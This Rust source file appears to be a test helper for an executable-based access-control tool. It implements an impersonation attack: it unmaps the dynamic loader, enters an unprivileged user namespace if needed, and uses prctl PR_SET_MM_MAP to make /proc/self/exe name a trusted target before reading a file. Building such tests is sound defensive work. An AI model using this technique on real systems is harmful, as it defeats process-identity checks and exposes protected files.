//! `exe-swapper TARGET FILE`, run through the dynamic loader
//! (`/lib64/ld-linux-x86-64.so.2 exe-swapper TARGET FILE`): borrows TARGET as its executable,
//! then reads FILE and prints it. The attack of a process that passes for a learned program:
//! exec'd, its `mm->exe_file` is the loader; it unmaps the loader (the kernel refuses to change
//! an executable that is still mapped) and points `mm->exe_file` at TARGET with
//! `prctl(PR_SET_MM, PR_SET_MM_EXE_FILE)`, so that `/proc/self/exe` names TARGET when it opens
//! FILE. It uses `PR_SET_MM_MAP`, the checkpoint-restore call, which needs only
//! `CAP_CHECKPOINT_RESTORE` (or `CAP_SYS_ADMIN`) in the caller's user namespace: without it, the
//! swapper first makes a user namespace of its own, as an unprivileged attacker would.
//! (`PR_SET_MM_EXE_FILE` would need `CAP_SYS_RESOURCE` in the initial namespace, which a
//! container's root often lacks.)
//!
//! Exit status 2 on bad usage, 3 when the swap was refused, 1 when FILE could not be read.

use std::ffi::CString;
use std::os::fd::AsRawFd as _;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let [_, target, file] = args.as_slice() else {
        eprintln!("usage: ld.so exe-swapper TARGET FILE");
        std::process::exit(2);
    };
    let loader = std::fs::read_link("/proc/self/exe").expect("reading /proc/self/exe");
    let maps = std::fs::read_to_string("/proc/self/maps").expect("reading /proc/self/maps");
    // Every mapping of the loader: start and end addresses.
    let ranges: Vec<(usize, usize)> = maps
        .lines()
        .filter(|line| line.ends_with(&*loader.to_string_lossy()))
        .filter_map(|line| {
            let (start, end) = line.split_whitespace().next()?.split_once('-')?;
            Some((
                usize::from_str_radix(start, 16).ok()?,
                usize::from_str_radix(end, 16).ok()?,
            ))
        })
        .collect();
    if ranges.is_empty() {
        eprintln!(
            "exe-swapper: {} is not mapped: run me through the dynamic loader",
            loader.display()
        );
        std::process::exit(2);
    }
    let target = std::fs::File::open(target).expect("opening TARGET");
    let mut map = current_mm_map();
    map.exe_fd = target.as_raw_fd() as u32;
    let file = CString::new(file.as_str()).expect("a path without NUL");
    // From here on only system calls: the loader's code and data (which malloc and the
    // unwinder use) are gone.
    // SAFETY: the ranges are the loader's own mappings, which nothing below uses (the binary is
    // linked with immediate binding, so no call resolves a symbol through the loader); every
    // pointer passed is live and the buffer is this frame's.
    unsafe {
        for (start, end) in ranges {
            libc::munmap(start as *mut libc::c_void, end - start);
        }
        let set_map = |map: &PrctlMmMap| {
            libc::prctl(
                libc::PR_SET_MM,
                // Variadic: each argument as the unsigned long the kernel reads.
                libc::PR_SET_MM_MAP as libc::c_ulong,
                map as *const PrctlMmMap as libc::c_ulong,
                std::mem::size_of::<PrctlMmMap>() as libc::c_ulong,
                0 as libc::c_ulong,
            )
        };
        if set_map(&map) != 0 && (libc::unshare(libc::CLONE_NEWUSER) != 0 || set_map(&map) != 0) {
            libc::_exit(3);
        }
        let fd = libc::open(file.as_ptr(), libc::O_RDONLY);
        if fd < 0 {
            libc::_exit(1);
        }
        let mut buf = [0u8; 4096];
        loop {
            let n = libc::read(fd, buf.as_mut_ptr().cast(), buf.len());
            if n <= 0 {
                break;
            }
            libc::write(1, buf.as_ptr().cast(), n as usize);
        }
        libc::_exit(0);
    }
}

/// The kernel's `struct prctl_mm_map` (`include/uapi/linux/prctl.h`).
#[repr(C)]
struct PrctlMmMap {
    start_code: u64,
    end_code: u64,
    start_data: u64,
    end_data: u64,
    start_brk: u64,
    brk: u64,
    start_stack: u64,
    arg_start: u64,
    arg_end: u64,
    env_start: u64,
    env_end: u64,
    auxv: u64,
    auxv_size: u32,
    exe_fd: u32,
}

/// The memory map as it is (from `/proc/self/stat` and `brk(0)`), with no executable change
/// (`exe_fd` -1): `PR_SET_MM_MAP` sets every field at once, so the others are given unchanged.
fn current_mm_map() -> PrctlMmMap {
    let stat = std::fs::read_to_string("/proc/self/stat").expect("reading /proc/self/stat");
    // Fields after the command name (which may hold spaces), numbered as proc(5) numbers them.
    let rest = &stat[stat.rfind(')').expect("a /proc/self/stat line") + 2..];
    let fields: Vec<u64> = rest
        .split_whitespace()
        .map(|field| field.parse().unwrap_or(0))
        .collect();
    let field = |number: usize| fields[number - 3];
    // SAFETY: brk(0) changes nothing and returns the current break.
    let brk = unsafe { libc::syscall(libc::SYS_brk, 0) } as u64;
    PrctlMmMap {
        start_code: field(26),
        end_code: field(27),
        start_data: field(45),
        end_data: field(46),
        start_brk: field(47),
        brk,
        start_stack: field(28),
        arg_start: field(48),
        arg_end: field(49),
        env_start: field(50),
        env_end: field(51),
        auxv: 0,
        auxv_size: 0,
        exe_fd: u32::MAX,
    }
}
